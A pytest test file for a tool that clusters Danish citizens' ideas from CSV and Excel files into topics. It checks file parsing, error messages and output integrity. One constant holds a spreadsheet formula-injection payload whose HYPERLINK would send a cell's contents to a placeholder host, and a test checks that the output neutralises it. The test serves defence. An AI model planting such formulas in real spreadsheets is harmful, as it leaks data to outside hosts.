"""`cluster-file` reads what `import` reads (`;` CSV with BOM, .xlsx) and writes the texts, topics and a summary."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from flows.clusterfile import cluster_file
from sources.files import InputFileError

CLI = str(Path(sys.executable).parent / "civic-ideas")

BIKES = ["Flere cykelstier langs landevejen, tak", "En sikker cykelsti til skolen ved rundkørslen",
         "Cykelstier hele vejen ind til byen", "Bredere cykelstier og bedre belysning på cykelstien"]
DOGS = ["En indhegnet hundeskov ved søen", "Et sted hvor hunde kan løbe frit i hundeskoven",
        "Vandpost til hundene ved hundeskoven", "Større hundeskov med bænke"]
FORMULA = '=HYPERLINK("http://x.example/?d="&A1;"Klik her") og flere træer i parken'


def run_cli(tmp: Path, *args: str) -> subprocess.CompletedProcess[str]:
    command = [CLI, "--warehouse", str(tmp / "wh.duckdb"), "--export-dir", str(tmp / "exports"), "cluster-file", *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)


def read_out(path: Path) -> list[dict[str, str]]:
    """The output as a spreadsheet sees it: raw cells, nothing parsed."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.slow
def test_a_semicolon_csv_with_bom_through_the_cli(tmp_path: Path) -> None:
    src = tmp_path / "idéer.csv"
    lines = ["Nr;Idé"] + [f"{i};{t}" for i, t in enumerate(BIKES + DOGS, start=1)]
    lines[2] = '2;"En sikker cykelsti til skolen;\nved rundkørslen"'  # a quoted `;` and line break stay in the text
    src.write_bytes(("\r\n".join(lines) + "\r\n").encode("utf-8-sig"))  # Danish Excel's "CSV UTF-8"
    out = tmp_path / "ud" / "resultat.csv"
    result = run_cli(tmp_path, str(src), "--text-column", "Idé", "--id-column", "Nr", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = read_out(out)
    assert list(rows[0]) == ["Nr", "is_idea", "kind", "topic_id", "topic_label", "Idé"]
    assert [r["Nr"] for r in rows] == [str(i) for i in range(1, 9)]
    assert rows[1]["Idé"] == "En sikker cykelsti til skolen;\nved rundkørslen"
    assert rows[0]["Idé"] == BIKES[0]  # the comma inside the text is not a delimiter here
    assert all(r["is_idea"] == "True" and r["kind"] == "idea" and r["topic_label"] for r in rows)
    summary = tmp_path / "ud" / "resultat_topics.csv"
    assert result.stdout.strip().splitlines() == [
        f"8 rows, 8 ideas in {len(read_out(summary))} topics -> {out} (topics: {summary})"]


@pytest.mark.slow
def test_header_only_empty_and_missing_column_are_one_line_errors(tmp_path: Path) -> None:
    header = tmp_path / "kun_overskrift.csv"
    header.write_bytes("Nr;Idé\r\n".encode("utf-8-sig"))
    empty = tmp_path / "tom.csv"
    empty.write_bytes(b"")
    cases = {
        header: ("Idé", "kun_overskrift.csv has a header but no rows"),
        empty: ("Idé", "tom.csv is empty"),
        tmp_path / "ok.csv": ("Tekst", "ok.csv has no column 'Tekst': the columns are 'Nr', 'Idé'"),
    }
    (tmp_path / "ok.csv").write_text("Nr;Idé\n1;Flere træer\n", encoding="utf-8")
    for src, (column, message) in cases.items():
        out = tmp_path / f"out_{src.stem}.csv"
        result = run_cli(tmp_path, str(src), "--text-column", column, "--out", str(out))
        assert result.returncode == 1
        assert result.stderr.startswith(f"civic-ideas: error: {message}"), result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
        assert not out.exists() and not (tmp_path / f"out_{src.stem}_topics.csv").exists()


def test_an_xlsx_sheet_with_number_ids(tmp_path: Path) -> None:
    src = tmp_path / "borgermøde.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.title = "Forside"
    workbook.active.append(["Ikke denne fane"])
    sheet = workbook.create_sheet("Noter")
    sheet.append(["Sag", "Note"])
    for number, text in enumerate(BIKES + DOGS, start=101):
        sheet.append([float(number), text])  # Excel stores numbers as floats: 101.0 is the id 101
    sheet.append([None, None])  # an empty row is left out
    sheet.append([109, "tak for et godt møde"])
    workbook.save(src)
    result, out, summary = cluster_file(src, tmp_path / "noter.csv", text_column="Note", id_column="Sag",
                                        sheet="Noter")
    rows = read_out(out)
    assert [r["Sag"] for r in rows] == [str(n) for n in range(101, 110)]
    assert [r["Note"] for r in rows] == [*BIKES, *DOGS, "tak for et godt møde"]
    assert rows[-1]["is_idea"] == "False" and rows[-1]["kind"] != "idea" and rows[-1]["topic_id"] == ""
    assert sum(r["is_idea"] == "True" for r in rows) == 8
    assert all(r["topic_id"] for r in rows[:8]) and summary == tmp_path / "noter_topics.csv"
    with pytest.raises(InputFileError, match="has no sheet 'Ark1': the sheets are 'Forside', 'Noter'"):
        cluster_file(src, tmp_path / "x.csv", text_column="Note", sheet="Ark1")


def test_the_topic_summary_matches_the_rows(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    pd.DataFrame({"tekst": BIKES + DOGS + ["tak", ""]}).to_csv(src, index=False)
    result, out, summary = cluster_file(src, tmp_path / "res.csv", text_column="tekst")
    rows = pd.read_csv(out, dtype={"topic_id": "Int64"})
    topics = pd.read_csv(summary)
    assert list(rows.columns) == ["row", "is_idea", "kind", "topic_id", "topic_label", "tekst"]
    assert rows["row"].tolist() == list(range(2, 11))  # spreadsheet rows (header = 1); a blank line is left out
    assert list(topics.columns) == ["topic_id", "topic_label", "keywords", "n_ideas"]
    assert topics["topic_id"].is_monotonic_increasing and topics["topic_id"].is_unique
    ideas = rows[rows["is_idea"]]
    assert ideas["topic_id"].value_counts().sort_index().tolist() == topics["n_ideas"].tolist()
    labels = dict(zip(topics["topic_id"], topics["topic_label"], strict=True))
    assert all(labels[t] == label for t, label in zip(ideas["topic_id"], ideas["topic_label"], strict=True))
    assert topics["keywords"].notna().any() and topics["n_ideas"].sum() == len(ideas) == 8
    assert rows.loc[~rows["is_idea"], "topic_id"].isna().all()


def test_a_formula_cell_is_neutralised_in_the_output(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ["=1+1", "b", "c", "d", "e"], "text": [FORMULA, *BIKES]}).to_csv(src, index=False, sep=";")
    _, out, _ = cluster_file(src, tmp_path / "out.csv", text_column="text", id_column="id")
    rows = read_out(out)
    assert rows[0]["text"] == "'" + FORMULA and rows[0]["id"] == "'=1+1"
    assert [r["text"] for r in rows[1:]] == BIKES


def test_no_ideas_still_writes_both_files(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("text\ntak\nhej\n", encoding="utf-8")
    result, out, summary = cluster_file(src, tmp_path / "out.csv", text_column="text")
    assert [r["is_idea"] for r in read_out(out)] == ["False", "False"]
    assert read_out(summary) == [] and summary.read_text(encoding="utf-8").startswith("topic_id,topic_label")


def test_the_output_never_overwrites_the_input(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("text\nFlere cykelstier\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="is the input file"):
        cluster_file(src, src, text_column="text")
    assert src.read_text(encoding="utf-8") == "text\nFlere cykelstier\n"
